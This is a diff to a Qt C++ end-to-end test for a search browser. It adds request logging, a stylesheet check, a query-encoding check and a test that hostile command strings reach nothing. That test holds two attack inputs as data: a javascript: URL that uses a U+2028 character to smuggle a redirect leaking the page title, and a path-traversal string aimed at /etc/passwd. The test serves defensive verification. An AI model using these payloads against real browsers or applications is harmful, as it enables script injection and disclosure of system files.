@@ -43,6 +43,8 @@ class TLoopbackServer : public QObject {
 
   // Request targets of the result pages, in arrival order.
   QStringList Searches;
+  // Every request target, in arrival order.
+  QStringList Targets;
   // The last scroll position each engine's page reported.
   QMap<QString, int> Reports;
 
@@ -53,6 +55,7 @@ class TLoopbackServer : public QObject {
     if (!buffer.contains("\r\n\r\n")) return;
     const QByteArray target = buffer.split(' ').value(1);
     FBuffers.remove(Socket);
+    Targets.append(QString::fromLatin1(target));
     QByteArray body;
     QByteArray type = "text/html; charset=utf-8";
     if (target.startsWith("/report?")) {
@@ -91,6 +94,18 @@ void Type(QWidget* Widget, const QString& Text) {
   }
 }
 
+// The value Script gives in Pane's page.
+QVariant Evaluate(TWebBrowser* Pane, const QString& Script) {
+  QVariant result;
+  bool answered = false;
+  Pane->page()->runJavaScript(Script, [&](const QVariant& Value) {
+    result = Value;
+    answered = true;
+  });
+  guitest::WaitFor([&] { return answered; });
+  return result;
+}
+
 }  // namespace
 
 class SearchEndToEndTest : public QObject {
@@ -120,6 +135,12 @@ class SearchEndToEndTest : public QObject {
 
     guitest::OpenWindows(FState, FForm3, FForm1);
     QVERIFY(guitest::ShowAndWaitForStartPages(*FForm3, *FState));
+  }
+
+  void startPagesKeepTheirStylesheet() {
+    // Local pages may not read other local files; their stylesheet still loads.
+    QCOMPARE(Evaluate(FForm3->WebBrowser1, QStringLiteral("getComputedStyle(document.querySelector('h1')).color")),
+             QVariant(QStringLiteral("rgb(22, 92, 199)")));
   }
 
   void cleanupTestCase() { QCOMPARE(guitest::CloseWindows(FForm3, FForm1), QStringList()); }
@@ -162,6 +183,43 @@ class SearchEndToEndTest : public QObject {
     QCOMPARE(FForm3->Edit4->text(), QStringLiteral("red apple"));
     QVERIFY(!FState->PaneDone.PaneDone2);
     FForm1->Edit2->setText(Command('b'));
+  }
+
+  void queryCharactersKeepTheirMeaning() {
+    FServer.Searches.clear();
+    FServer.Reports.clear();
+    FForm3->Edit4->setText(QStringLiteral("C++ AT&T a=b"));
+    FForm3->SpeedButton1->click();
+    QVERIFY(guitest::WaitFor([&] { return FServer.Reports.size() == 3; }));
+    QVERIFY(FServer.Searches.contains(QStringLiteral("/g/search?q=C%2B%2B%20AT%26T%20a%3Db")));
+  }
+
+  void hostileCommandsReachNothing() {
+    QVERIFY(guitest::WaitFor([&] { return FForm3->Edit4->text().isEmpty(); }));
+    const QString leak = QStringLiteral("location='http://127.0.0.1:%1/leak/'+document.title;//").arg(FServer.Port());
+    const QStringList hostile = {
+        // A script run in the pane's current page.
+        QStringLiteral("javascript://x/") + QChar(0x2028) + leak,
+        // Text QUrl refuses, once taken for a local path.
+        QStringLiteral("http://bad host/../../../../../../etc/passwd#"),
+    };
+    for (const QString& command : hostile) {
+      FServer.Targets.clear();
+      FForm1->Edit1->setText(command);
+      const QUrl before = FForm3->WebBrowser1->url();
+      FForm3->Edit4->setText(QStringLiteral("red apple"));
+      FForm3->SpeedButton1->click();
+      // The pane refuses such URLs on its own too.
+      FForm3->WebBrowser1->Navigate(command.toStdU16String());
+      QVERIFY(guitest::WaitFor([&] { return FServer.Searches.size() >= 2; }));
+      QTest::qWait(1000);
+      QCOMPARE(FForm3->WebBrowser1->url(), before);
+      for (const QString& target : FServer.Targets) QVERIFY2(!target.startsWith(QStringLiteral("/leak/")), qPrintable(target));
+      FServer.Searches.clear();
+    }
+    FForm1->Edit1->setText(Command('g'));
+    FForm3->Edit4->clear();
+    FForm3->Edit5->clear();
   }
 
   void untickedEngineGetsNoRequest() {
